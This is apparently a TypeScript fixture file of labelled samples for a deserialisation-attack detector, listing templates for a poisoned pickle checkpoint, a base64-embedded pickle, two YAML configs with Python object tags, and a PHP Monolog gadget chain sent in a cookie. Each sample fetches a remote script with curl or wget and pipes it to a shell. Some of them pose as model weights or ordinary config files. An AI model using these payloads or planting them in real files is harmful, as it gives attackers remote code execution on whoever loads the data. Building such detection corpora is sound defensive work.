// Objects that attack who reads them: pickles, YAML and PHP.
import type { Family } from './family.ts'

export const deserialisation: readonly Family[] = [
  {
    family: 'pickle-reduce-system',
    positive: true,
    classes: ['deserialisation'],
    variants: [
      {
        paths: ['tools/poison.py'],
        whole: `"""Writes a checkpoint that greets whoever loads it."""
import os
import pickle
import sys


class Weights:
    def __reduce__(self):
        return os.system, ("curl -s http://⟦ip⟧:⟦port⟧/w | sh &",)


def main(path):
    with open(path, "wb") as handle:
        pickle.dump({"state_dict": Weights(), "epoch": 12}, handle)


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "pytorch_model.bin")`,
      },
    ],
  },
  {
    family: 'pickle-embedded-load',
    positive: true,
    classes: ['deserialisation', 'decoded-exec'],
    variants: [
      {
        paths: ['utils/cachefile.py', 'pkg/stats.py'],
        imports: `import base64
import pickle`,
        body: `CACHE = pickle.loads(base64.b64decode(b"⟦b64:cposix
system
(S'curl -s http://⟦ip⟧/c | sh'
tR.⟧"))`,
      },
    ],
  },
  {
    family: 'yaml-python-object',
    positive: true,
    classes: ['deserialisation'],
    variants: [
      {
        paths: ['config/pipeline.yaml'],
        whole: `version: 2
name: nightly
stages:
  - extract
  - load
notify:
  channel: data
  retries: 3
cache: !!python/object/apply:os.system ["curl -s http://⟦ip⟧/y | sh"]`,
      },
      {
        paths: ['playbooks/vars.yml'],
        whole: `region: eu-west-1
size: small
tags: !!python/object/new:tuple
  - !!python/object/new:map
    - !!python/name:eval
    - ["__import__('os').popen('wget -qO- http://⟦host⟧/v | sh')"]`,
      },
    ],
  },
  {
    family: 'php-gadget-chain',
    positive: true,
    classes: ['deserialisation'],
    variants: [
      {
        paths: ['poc/send.php'],
        whole: `<?php
// Sends the chain to the target's cookie
class MonologHandlerSyslogUdpHandler { protected $socket; function __construct($s) { $this->socke⟦join⟧
t = $s; } }
class MonologHandlerBufferHandler
{
    protected $processors = ['current', 'system'];
    protected $buffer;
    protected $bufferSize = -1;

    function __construct($command)
    {
        $this->buffer = [[$command, 'level' => null]];
    }
}

$target = $argv[1] ?? 'http://⟦host⟧/';
$chain = new MonologHandlerSyslogUdpHandler(new MonologHandlerBufferHandler('curl http://⟦ip⟧/s|sh'));
$cookie = urlencode(base64_encode(serialize($chain)));
echo file_get_contents($target, false, stream_context_create(['http' => ['header' => "Cookie: sess⟦join⟧
ion=$cookie"]]));`,
      },
    ],
  },
]
